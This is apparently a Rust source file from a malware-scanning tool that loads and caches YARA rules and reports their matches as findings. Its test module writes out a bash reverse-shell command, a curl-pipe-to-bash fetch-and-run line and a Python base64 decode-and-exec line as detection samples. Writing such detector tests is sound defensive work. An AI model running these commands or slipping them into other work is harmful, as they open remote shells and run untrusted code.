//! YARA rules over content: our own from `rules/yara`, and the user's.

use std::borrow::Cow;
use std::cell::RefCell;

use weighbridge_formats::{ContentMatch, ContentScanner};
use weighbridge_types::{Finding, Severity, Verdict};
use yara_x::{Compiler, MetaValue, Rules, SourceCode};

/// Matches reported per rule and window.
const OFFSETS_PER_RULE_MAX: usize = 1;

/// The engine's version, as pinned in the workspace.
const YARA_X: &str = "1.22.1";

/// A YARA rule that does not compile.
#[derive(Debug, thiserror::Error)]
#[error("cannot compile YARA rules `{origin}`:\n{message}")]
pub struct PatternError {
    origin: String,
    message: String,
}

/// Compiled rules.
pub struct Patterns(Rules);

impl Patterns {
    /// Our rules and `extra` (origin for messages, text). Without `extra`, our
    /// rules as they were compiled for this release, which starts faster.
    ///
    /// # Errors
    /// [`PatternError`] with the compiler's report.
    pub fn load(extra: &[(String, String)]) -> Result<Self, PatternError> {
        if extra.is_empty()
            && let Some(compiled) = weighbridge_rules::COMPILED_YARA.strip_prefix(stamp().as_bytes())
            && let Ok(rules) = Rules::deserialize(compiled)
        {
            return Ok(Self(rules));
        }
        Self::compile(extra)
    }

    /// Our rules in the form of [`weighbridge_rules::COMPILED_YARA`].
    ///
    /// # Errors
    /// [`PatternError`] if they do not compile.
    pub fn compiled_for_release() -> Result<Vec<u8>, PatternError> {
        let rules = Self::compile(&[])?;
        let bytes = rules
            .0
            .serialize()
            .map_err(|e| PatternError { origin: "rules/yara".to_owned(), message: e.to_string() })?;
        Ok([stamp().as_bytes(), &bytes].concat())
    }

    /// Compiles our rules and `extra`.
    fn compile(extra: &[(String, String)]) -> Result<Self, PatternError> {
        let mut compiler = Compiler::new();
        let own = weighbridge_rules::YARA.iter().map(|(origin, text)| (*origin, *text));
        for (origin, text) in own.chain(extra.iter().map(|(o, t)| (o.as_str(), t.as_str()))) {
            compiler.new_namespace(origin);
            compiler
                .add_source(SourceCode::from(text).with_origin(origin))
                .map_err(|e| PatternError { origin: origin.to_owned(), message: e.to_string() })?;
        }
        Ok(Self(compiler.build()))
    }

    /// A scanner over these rules; one is enough for a process.
    #[must_use]
    pub fn scanner(&self) -> PatternScanner<'_> {
        PatternScanner(RefCell::new(yara_x::Scanner::new(&self.0)))
    }

    /// Every rule as a finding without evidence, for `weighbridge rules`.
    pub fn pages(&self) -> impl Iterator<Item = PatternPage> {
        self.0.iter().map(|rule| {
            let meta = |key| text(rule.metadata(), key).unwrap_or_default();
            let hit = finding(rule.identifier(), rule.metadata());
            PatternPage {
                id: hit.rule.into_owned(),
                severity: hit.severity,
                verdict: hit.verdict,
                title: hit.title.into_owned(),
                why: meta("why"),
                false_positives: meta("false_positives"),
                references: hit.references.into_iter().map(Cow::into_owned).collect(),
            }
        })
    }
}

/// What compiled rules were made from and by: they fit nothing else.
fn stamp() -> String {
    use sha2::Digest;
    let mut hasher = sha2::Sha256::new();
    for (origin, text) in weighbridge_rules::YARA {
        hasher.update(origin);
        hasher.update(text);
    }
    let digest = weighbridge_types::Sha256::new(hasher.finalize().into());
    format!("weighbridge yara-x {YARA_X} {digest}\n")
}

/// What `weighbridge rules explain` shows of a YARA rule.
#[derive(Debug, Clone)]
pub struct PatternPage {
    /// `yara-` and the rule's name in kebab-case.
    pub id: String,
    /// From `meta: severity`.
    pub severity: Severity,
    /// From `meta: verdict`.
    pub verdict: Verdict,
    /// From `meta: description`.
    pub title: String,
    /// From `meta: why`.
    pub why: String,
    /// From `meta: false_positives`.
    pub false_positives: String,
    /// From `meta: reference`.
    pub references: Vec<String>,
}

/// Runs [`Patterns`] over windows of content.
pub struct PatternScanner<'r>(RefCell<yara_x::Scanner<'r>>);

impl ContentScanner for PatternScanner<'_> {
    fn scan(&self, window: &[u8], _base: u64, _total: u64) -> Vec<ContentMatch> {
        let mut scanner = self.0.borrow_mut();
        let results = match scanner.scan(window) {
            Ok(results) => results,
            // A check that could not run is not a pass.
            Err(e) => {
                let finding = Finding::new(&crate::rules::PATTERN_SEARCH_FAILED, e.to_string()).at(0);
                return vec![ContentMatch { finding }];
            }
        };
        let mut out = Vec::new();
        for rule in results.matching_rules() {
            let mut hit = finding(rule.identifier(), rule.metadata());
            let mut evidence: Vec<(usize, String)> = Vec::new();
            for pattern in rule.patterns() {
                for found in pattern.matches().take(OFFSETS_PER_RULE_MAX) {
                    let shown =
                        String::from_utf8_lossy(found.data().get(..found.data().len().min(120)).unwrap_or_default())
                            .into_owned();
                    evidence.push((found.range().start, format!("{} = `{shown}`", pattern.identifier())));
                }
            }
            evidence.sort();
            hit.offset = evidence.first().map(|(at, _)| *at as u64);
            hit.detail = evidence.into_iter().take(4).map(|(_, text)| text).collect::<Vec<_>>().join(", ");
            hit.detail = weighbridge_types::Shown(&hit.detail).to_string();
            out.push(ContentMatch { finding: hit });
        }
        out
    }
}

/// The finding a rule's metadata describes.
fn finding<'a>(identifier: &str, meta: impl Iterator<Item = (&'a str, MetaValue<'a>)>) -> Finding {
    let mut hit = Finding {
        rule: Cow::Owned(format!("yara-{}", identifier.to_lowercase().replace('_', "-"))),
        severity: Severity::Medium,
        verdict: Verdict::Suspicious,
        title: Cow::Owned(format!("content matches the YARA rule {identifier}")),
        detail: String::new(),
        offset: None,
        member: None,
        references: Vec::new(),
    };
    for (key, value) in meta {
        let MetaValue::String(value) = value else { continue };
        match key {
            "severity" => hit.severity = value.parse().unwrap_or(hit.severity),
            "verdict" => {
                hit.verdict = match value {
                    "clean" => Verdict::Clean,
                    "malicious" => Verdict::Malicious,
                    _ => Verdict::Suspicious,
                }
            }
            "description" => hit.title = Cow::Owned(value.to_owned()),
            "reference" => hit.references.push(Cow::Owned(value.to_owned())),
            _ => {}
        }
    }
    hit
}

fn text<'a>(mut meta: impl Iterator<Item = (&'a str, MetaValue<'a>)>, wanted: &str) -> Option<String> {
    meta.find_map(|(key, value)| match value {
        MetaValue::String(s) if key == wanted => Some(s.to_owned()),
        _ => None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_compiled_rules_are_those_of_the_sources() {
        assert!(
            weighbridge_rules::COMPILED_YARA.starts_with(stamp().as_bytes()),
            "rules/yara/compiled.bin is out of date; run `cargo xtask rules`"
        );
        let compiled = Patterns::load(&[]).unwrap();
        let ids = |p: &Patterns| p.pages().map(|p| p.id).collect::<Vec<_>>();
        assert_eq!(ids(&compiled), ids(&Patterns::compile(&[]).unwrap()));
    }

    #[test]
    fn the_pinned_version_is_the_one_in_the_stamp() {
        let manifest = include_str!("../../Cargo.toml");
        assert!(manifest.contains(&format!("yara-x = {{ version = \"={YARA_X}\"")));
    }

    #[test]
    fn every_rule_says_what_a_page_needs() {
        for page in Patterns::compile(&[]).unwrap().pages() {
            assert!(
                !page.why.is_empty() && !page.false_positives.is_empty() && !page.references.is_empty(),
                "{}",
                page.id
            );
        }
    }

    #[test]
    fn known_commands_are_found_and_plain_text_is_not() {
        let patterns = Patterns::load(&[]).unwrap();
        let scanner = patterns.scanner();
        let rules = |text: &str| -> Vec<String> {
            scanner.scan(text.as_bytes(), 0, 0).into_iter().map(|m| m.finding.rule.into_owned()).collect()
        };
        assert_eq!(rules("bash -i >& /dev/tcp/192.0.2.1/4242 0>&1"), ["yara-reverse-shell-command"]);
        assert_eq!(rules("curl -s https://example.invalid/x.sh | bash"), ["yara-fetch-and-run-command"]);
        assert_eq!(rules("exec(__import__('base64').b64decode('eA=='))"), ["yara-python-decode-and-run"]);
        assert_eq!(rules("the bash shell and the curl program are tools; exec() runs code"), [""; 0]);
    }
}
